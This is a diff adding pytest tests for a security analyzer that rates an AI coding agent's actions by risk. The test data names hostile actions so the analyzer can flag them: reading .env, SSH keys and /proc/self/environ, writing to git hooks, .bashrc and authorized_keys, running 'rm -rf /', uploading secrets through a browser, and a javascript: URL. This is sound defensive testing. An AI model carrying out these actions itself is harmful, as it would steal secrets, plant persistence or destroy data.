@@ -1,0 +1,132 @@
+"""What files, pages, tools of servers and other agents are told to be, and where paths lead."""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+
+import pytest
+
+from core.events import (
+    Action,
+    ActionSecurityRisk,
+    AgentDelegateAction,
+    AgentThinkAction,
+    BrowseInteractiveAction,
+    BrowseURLAction,
+    CmdRunAction,
+    FileEditAction,
+    FileReadAction,
+    FileWriteAction,
+    IPythonRunCellAction,
+    MCPAction,
+    TaskTrackingAction,
+)
+from core.security.facts import facts_of
+from core.security.places import Place, Places
+
+WORKSPACE = "/workspace/app"
+ACTIONS: list[tuple[str, str, Action]] = [
+    ("LOW", "", FileReadAction(path="src/a.py")),
+    ("LOW", "", FileReadAction(path="/workspace/app/src/a.py")),
+    ("HIGH", "secret.read", FileReadAction(path=".env")),
+    ("HIGH", "secret.read", FileReadAction(path="../../root/.ssh/id_rsa")),
+    ("HIGH", "secret.process", FileReadAction(path="/proc/self/environ")),
+    ("MEDIUM", "read.outside", FileReadAction(path="/home/me/notes.txt")),
+    ("LOW", "", FileWriteAction(path="src/a.py", content="x")),
+    ("MEDIUM", "persist.ci", FileWriteAction(path=".github/workflows/ci.yml", content="x")),
+    ("HIGH", "persist.hook", FileWriteAction(path=".git/hooks/pre-commit", content="x")),
+    ("HIGH", "persist.hook", FileWriteAction(path=".envrc", content="x")),
+    ("HIGH", "persist.shell", FileWriteAction(path="/root/.bashrc", content="x")),
+    ("HIGH", "persist.system", FileWriteAction(path="/etc/hosts", content="x")),
+    ("MEDIUM", "write.outside", FileWriteAction(path="../other/a.py", content="x")),
+    ("LOW", "", FileEditAction(path="src/a.py", command="str_replace", old_str="a", new_str="b")),
+    ("HIGH", "persist.ssh", FileEditAction(path="/root/.ssh/authorized_keys", command="create", file_text="x")),
+    ("LOW", "", FileEditAction(path="/etc/hosts", command="view")),
+    ("MEDIUM", "page.open", BrowseURLAction(url="https://docs.example/")),
+    ("LOW", "net.local", BrowseURLAction(url="http://localhost:8000/")),
+    ("HIGH", "page.local-file", BrowseURLAction(url="file:///etc/passwd")),
+    ("MEDIUM", "page.open", BrowseInteractiveAction(browser_actions="goto('https://docs.example/')\nscroll(0, 500)")),
+    ("LOW", "", BrowseInteractiveAction(browser_actions="click('a12')")),
+    ("MEDIUM", "page.fill", BrowseInteractiveAction(browser_actions="fill('a12', 'x')\npress('a12', 'Enter')")),
+    ("HIGH", "page.upload", BrowseInteractiveAction(browser_actions="upload_file('a12', 'notes.txt')")),
+    ("HIGH", "secret.read", BrowseInteractiveAction(browser_actions="upload_file('a12', '.env')")),
+    (
+        "UNKNOWN",
+        "page.unknown",
+        BrowseInteractiveAction(browser_actions="goto('https://e.example/' + open('x').read())"),
+    ),
+    ("UNKNOWN", "page.unknown", BrowseInteractiveAction(browser_actions="goto(")),
+    ("HIGH", "page.script", BrowseInteractiveAction(browser_actions="goto('javascript:alert(1)')")),
+    ("UNKNOWN", "mcp.call", MCPAction(name="mail__send")),
+    ("LOW", "mcp.read-only", MCPAction(name="mail__list")),
+    ("MEDIUM", "agent.delegate", AgentDelegateAction(agent="CodeActAgent")),
+    ("LOW", "", AgentThinkAction(thought="rm -rf /")),
+    ("LOW", "", TaskTrackingAction()),
+    ("UNKNOWN", "opaque.input", CmdRunAction(command="y", is_input=True)),
+    ("LOW", "", CmdRunAction(command="C-c", is_input=True)),
+    ("HIGH", "destroy.root", CmdRunAction(command="rm -rf /", is_input=True)),
+    ("LOW", "", IPythonRunCellAction(code="1")),
+]
+
+
+@pytest.mark.parametrize(
+    ("risk", "rule", "action"), ACTIONS, ids=[f"{a.kind}-{n}" for n, (_, _, a) in enumerate(ACTIONS)]
+)
+def test_each_action_gets_its_verdict(risk: str, rule: str, action: Action) -> None:
+    facts = facts_of(action, workspace=WORKSPACE, read_only={"mail__list"})
+    assert (facts.risk.name, rule in (*facts.rules, "")) == (risk, True), facts.rules
+
+
+def test_every_action_that_acts_is_read() -> None:
+    told = {type(action) for _, _, action in ACTIONS}
+    assert {kind for kind in Action.kinds.values() if kind.runnable and kind.__module__.startswith("core.")} <= told
+
+
+def test_the_rating_of_the_model_is_not_among_the_facts() -> None:
+    loud = CmdRunAction(command="ls", security_risk=ActionSecurityRisk.HIGH)
+    quiet = CmdRunAction(command="rm -rf /", security_risk=ActionSecurityRisk.LOW)
+    assert facts_of(loud, workspace=WORKSPACE).risk is ActionSecurityRisk.LOW
+    assert facts_of(quiet, workspace=WORKSPACE).risk is ActionSecurityRisk.HIGH
+
+
+def test_a_command_begins_where_the_shell_stands() -> None:
+    action = CmdRunAction(command="rm -rf *")
+    assert "destroy.outside" in facts_of(action, workspace=WORKSPACE, cwd="/srv/data").rules
+    assert facts_of(action, workspace=WORKSPACE, cwd="/workspace/app/build").risk is ActionSecurityRisk.MEDIUM
+
+
+@pytest.mark.parametrize(
+    ("path", "place"),
+    [
+        ("a/../b", Place.INSIDE),
+        ("../app/b", Place.INSIDE),
+        ("../app2/b", Place.OUTSIDE),
+        ("~/x", Place.HOME),
+        ("/root/x", Place.HOME),
+        ("/tmp/x", Place.TEMPORARY),
+        ("/tmp/../etc/x", Place.SYSTEM),
+        ("/dev/sda", Place.DEVICE),
+        ("/dev/null", Place.INSIDE),
+        ("/", Place.SYSTEM),
+        ("//etc//x", Place.SYSTEM),
+        ("/data/x", Place.OUTSIDE),
+    ],
+)
+def test_paths_lead_where_they_lead(path: str, place: Place) -> None:
+    places = Places(WORKSPACE)
+    resolved = places.resolve(path, WORKSPACE)
+    assert resolved is not None
+    assert places.place(resolved) is place
+
+
+def test_a_workspace_in_the_home_folder_is_inside() -> None:
+    places = Places("/home/me/app")
+    assert places.resolve("~/app/x", "/") == "/home/me/app/x"
+    assert places.place("/home/me/app/x") is Place.INSIDE
+    assert places.place("/home/me/x") is Place.HOME
+
+
+def test_the_grammar_is_loaded_at_the_first_command_only() -> None:
+    code = "import sys, core.security.facts, core.security.taint; print('tree_sitter' in sys.modules)"
+    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout == "False\n"
